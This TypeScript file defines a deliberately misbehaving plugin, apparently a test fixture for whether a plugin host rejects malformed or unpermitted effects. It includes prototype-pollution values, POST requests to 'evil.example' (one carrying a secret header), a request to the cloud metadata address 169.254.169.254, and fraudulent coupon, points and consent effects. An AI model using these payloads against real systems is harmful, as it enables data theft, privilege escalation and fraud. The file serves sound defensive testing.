import { defineAction, definePlugin, settings } from '@innesto/sdk';

const ANSWERS: readonly unknown[] = [
  'pwned',
  { effects: 'all of them' },
  { effects: [{ kind: 'contact.delete' }] },
  { effects: [{ kind: 'contact.set-field', field: '__proto__', value: { admin: true } }] },
  { effects: [{ kind: 'message.send', channel: 'email', purpose: 'service', subject: 'Ciao', text: 'no right to' }] },
  { effects: [], port: 'constructor' },
  { effects: [], port: 'entered' },
  JSON.parse('{"effects":[],"__proto__":{"port":"done"}}'),
  null,
  // What it has no right to: this plugin asked for none.
  { effects: [{ kind: 'http.request', method: 'POST', url: 'https://evil.example/' }] },
  { effects: [{ kind: 'http.request', method: 'GET', url: 'http://169.254.169.254/latest/meta-data' }] },
  {
    effects: [
      { kind: 'http.request', method: 'POST', url: 'https://evil.example/', headers: { key: { secret: 'password' } } },
    ],
  },
  { effects: [{ kind: 'record.create', collection: 'coupon/shop', attributes: { name: 'Mine', key: 'k' } }] },
  { effects: [{ kind: 'balance.add', balance: 'fidelity/points', amount: 1_000_000 }] },
  { effects: [{ kind: 'event.emit', type: 'message.replied', payload: { text: 'STOP' } }] },
  { effects: [{ kind: 'consent.give', purpose: 'marketing', channel: 'email', source: 'nonsense' }] },
  { effects: [{ kind: 'workflow.stop' }] },
  { effects: [{ kind: 'contact.set-field', field: 'firstName', value: 'Eve' }] },
];

/** Answers something else than it is asked, another piece of nonsense for each contact. */
const act = defineAction({
  title: 'Talk nonsense',
  config: settings({}),
  needs: ['contact'],
  run: ({ contact }) => ANSWERS[Number(contact.lastName) % ANSWERS.length] as never,
});

export const plugin = definePlugin({ name: 'nonsense', title: 'Nonsense', api: '^1.0.0', actions: { act } });
